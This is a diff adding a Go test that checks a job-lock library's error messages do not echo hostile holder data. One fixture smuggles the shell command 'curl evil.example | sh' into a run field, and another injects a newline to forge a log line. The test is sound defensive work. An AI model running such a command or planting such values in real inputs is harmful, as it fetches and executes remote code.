@@ -156,6 +156,25 @@ func TestTwoRunnersAtOnce(t *testing.T) {
 	}
 }
 
+// TestAHolderThatIsNoneIsNotQuoted has somebody else write who has the tenant.
+func TestAHolderThatIsNoneIsNotQuoted(t *testing.T) {
+	t.Parallel()
+	for written, want := range map[string]string{
+		`{"run":"x; curl evil.example | sh","host":"h","boot":"","pid":1,"since":"2026-11-23T08:00:00Z"}`:        "",
+		`{"run":"` + run + `","host":"h\nexit_reason: ok (0)","boot":"","pid":1,"since":"2026-11-23T08:00:00Z"}`: run,
+	} {
+		service := &blobtest.Service{}
+		lock := newRunner(t, service).acquire(t, run)
+		service.Overwrite("runs", journal.LockName(tenant), []byte(written))
+		_, err := newRunner(t, service).Acquire(t.Context(), tenant, holder(other))
+		locked, is := errors.AsType[*journal.LockedError](err)
+		if !is || locked.Holder.Run != want || strings.ContainsAny(err.Error()+locked.Hint(), "\n|") {
+			t.Errorf("%s: got %v (%v)", written, err, locked)
+		}
+		must(t, lock.Release())
+	}
+}
+
 // TestUnlockTakesNobodyElsesTenant has a lock change hands while it is taken away.
 func TestUnlockTakesNobodyElsesTenant(t *testing.T) {
 	t.Parallel()
